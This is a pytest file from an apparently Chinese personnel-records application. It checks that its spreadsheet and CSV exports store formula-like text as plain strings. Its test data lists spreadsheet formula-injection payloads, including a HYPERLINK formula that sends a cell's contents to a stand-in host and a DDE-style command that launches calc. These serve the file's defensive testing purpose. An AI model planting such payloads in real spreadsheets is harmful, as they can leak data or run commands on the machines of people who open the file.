"""Every .xlsx the program writes stores text as text: a value that would start a formula (=, +, -, @, also
after a leading tab or line break) is read back as the same string, a string cell with the quote prefix —
never a live formula. One test per writer, each reading its file back."""
from __future__ import annotations

from datetime import date
from types import SimpleNamespace

import openpyxl
import pytest

from models.entities import Cadre, Handling
from models.exchange.xlsx_text import starts_formula

HOSTILE = ['=HYPERLINK("http://e.x/?"&A1,"张三")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r\n=2+2"]


def _cells(path):
    """Every cell holding one of the hostile strings: (value, data_type, quote prefix)."""
    wb = openpyxl.load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and any(h in c.value for h in HOSTILE):
                    found[c.value] = (c.data_type, c.quotePrefix)
    return found


def _assert_text(path, expected):
    found = _cells(path)
    for text in expected:
        assert text in found, (text, list(found))
        data_type, quoted = found[text]
        assert data_type == "s", text  # "f" would be a formula
        assert quoted or not starts_formula(text), text
    raw = openpyxl.load_workbook(path)
    for ws in raw.worksheets:  # no cell anywhere is a formula
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_starts_formula():
    assert all(starts_formula(h) for h in HOSTILE)
    assert not any(starts_formula(x) for x in ("张三", "1975.03", "a=b", "", None, 5))


def test_cadre_export(db, admin, tmp_path):
    from models.exchange.cadre_export import export_cadres_xlsx

    with db.session() as s:
        for i, text in enumerate(HOSTILE):
            s.add(Cadre(name=text, id_number=f"11010119900307{i:03d}X", current_post=HOSTILE[0]))
        s.flush()
        export_cadres_xlsx(s, admin, None, tmp_path / "名册.xlsx")
    _assert_text(tmp_path / "名册.xlsx", HOSTILE)


def test_handling_export(db, admin, tmp_path):
    from models.exchange.handling_import import export_handling_xlsx

    with db.session() as s:
        c = Cadre(name="李四", id_number="110101199003070011")
        s.add(c)
        s.flush()
        s.add(Handling(cadre_id=c.id, regime="gov", kind="warning", effective_on=date(2024, 3, 1), organ=HOSTILE[3],
                       doc_number=HOSTILE[2], facts=HOSTILE[0]))
        s.flush()
        export_handling_xlsx(s, admin, tmp_path / "台账.xlsx")
    _assert_text(tmp_path / "台账.xlsx", [HOSTILE[0], HOSTILE[2], HOSTILE[3]])


def test_roster(tmp_path):
    from models.exchange.roster_xlsx import write_xlsx
    from models.services.roster import RosterRow

    rows = [RosterRow(1, HOSTILE[0], "110101********0011", HOSTILE[1], HOSTILE[4], date(2024, 1, 1), date(2025, 1, 1))]
    write_xlsx(rows, HOSTILE[3], tmp_path / "名单.xlsx")
    _assert_text(tmp_path / "名单.xlsx", [HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[4]])


def test_rejection_report(tmp_path):
    from models.exchange.common import ImportResult, RejectedRow
    from models.exchange.import_report import save_report

    result = ImportResult(kind="cadres", source=HOSTILE[2])
    result.rejected = [RejectedRow(3, "身份证号不对", name=HOSTILE[0], id_number=HOSTILE[5])]
    result.add(4, HOSTILE[3], "新增")
    save_report(result, tmp_path / "报告.xlsx")
    _assert_text(tmp_path / "报告.xlsx", [HOSTILE[0], HOSTILE[3], HOSTILE[5]])


def test_visit_register(db, admin, tmp_path, monkeypatch):
    from models.exchange import visit_register
    from models.services.visits import records

    visit = SimpleNamespace(record_no="HF-1", cadre_name=HOSTILE[0], unit_name=HOSTILE[1], handling_label="政务警告",
                            seq=1, visited_on=date(2024, 4, 2), place=HOSTILE[3], form="谈心谈话", visitors_text="王五",
                            others_present="", evaluation="好", recommendation="", suggestions=HOSTILE[2],
                            next_steps="", next_due=None, findings={"思想": HOSTILE[4]}, id=1)
    monkeypatch.setattr(records, "list_visits", lambda *a, **k: [visit])
    with db.session() as s:
        visit_register.export_register(s, admin, tmp_path / "回访.xlsx", date(2024, 1, 1), date(2024, 12, 31))
    _assert_text(tmp_path / "回访.xlsx", [HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[2]])


@pytest.mark.parametrize("kind", ["cadres", "commendations"])
def test_import_templates_have_no_formula(kind, tmp_path):
    from models.exchange.template import save_template

    save_template(kind, tmp_path / "模板.xlsx")
    _assert_text(tmp_path / "模板.xlsx", [])


def test_an_exported_hostile_name_imports_back_as_the_same_text(db, admin, tmp_path):
    from models.exchange.cadre_export import export_cadres_xlsx

    with db.session() as s:
        s.add(Cadre(name="=1+1", id_number="110101199003070011"))
        s.flush()
        export_cadres_xlsx(s, admin, None, tmp_path / "名册.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "名册.xlsx").worksheets[0]
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("姓名") + 1).value == "=1+1"


def test_dashboard_list(db, admin, tmp_path, monkeypatch):
    from models.exchange import dashboard_export
    from models.services import dashboard

    row = dashboard.DashRow(cadre_id=0, name=HOSTILE[0], unit_name=HOSTILE[1], when=date(2024, 1, 1), detail=HOSTILE[2])
    monkeypatch.setattr(dashboard, "rows", lambda *a, **k: [row])
    with db.session() as s:
        dashboard_export.export_list(s, admin, "tasks_open", date(2024, 1, 1), tmp_path / "工作台.xlsx")
    _assert_text(tmp_path / "工作台.xlsx", [HOSTILE[0], HOSTILE[1], HOSTILE[2]])


def test_statistics(tmp_path):
    from models.services import statistics as st
    from reports import statistics as report

    table = st.StatTable("t", HOSTILE[3], HOSTILE[4], ("件数",), (st.StatRow(HOSTILE[0], (3,)), st.StatRow("合计", (3,))),
                         note=HOSTILE[2])
    stats = st.Statistics(st.StatsQuery(date(2024, 1, 1), date(2024, 12, 31), date(2025, 1, 1)), HOSTILE[1],
                          (st.Section("handling", "处理处分", (table,)),))
    report.write_xlsx(stats, tmp_path / "统计.xlsx", org_name="某纪委")
    _assert_text(tmp_path / "统计.xlsx", [HOSTILE[0], HOSTILE[3], HOSTILE[4], "注：" + HOSTILE[2]])
    cells = [c.value for ws in openpyxl.load_workbook(tmp_path / "统计.xlsx").worksheets for row in ws.iter_rows() for c in row]
    assert 3 in cells  # numbers stay numbers


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_document_register(db, admin, tmp_path, suffix):
    from models.services import document_numbers as dn
    from reports.register_export import export_register

    with db.session() as s:
        dn.allocate(s, admin, "clarification", 2024, title=HOSTILE[0])
        export_register(s, admin, tmp_path / f"发文登记{suffix}")
    if suffix == ".xlsx":
        _assert_text(tmp_path / "发文登记.xlsx", [HOSTILE[0]])
    else:  # a .csv opened in Excel or WPS: the leading apostrophe keeps the text a text
        text = (tmp_path / "发文登记.csv").read_text(encoding="utf-8-sig")
        assert "'" + HOSTILE[0].replace('"', '""') in text and "\n" + HOSTILE[0][:1] not in text


def test_no_writer_appends_or_sets_a_cell_past_the_helper():
    """Every .xlsx writer in models/ and reports/ goes through xlsx_text (append_row / set_cell)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bws\d?\.append\(|\.cell\([^)]*value=")
    offenders = [f"{p.relative_to(root)}:{n}" for folder in ("models", "reports")
                 for p in (root / folder).rglob("*.py") if p.name != "xlsx_text.py"
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if raw.search(line)]
    assert offenders == []
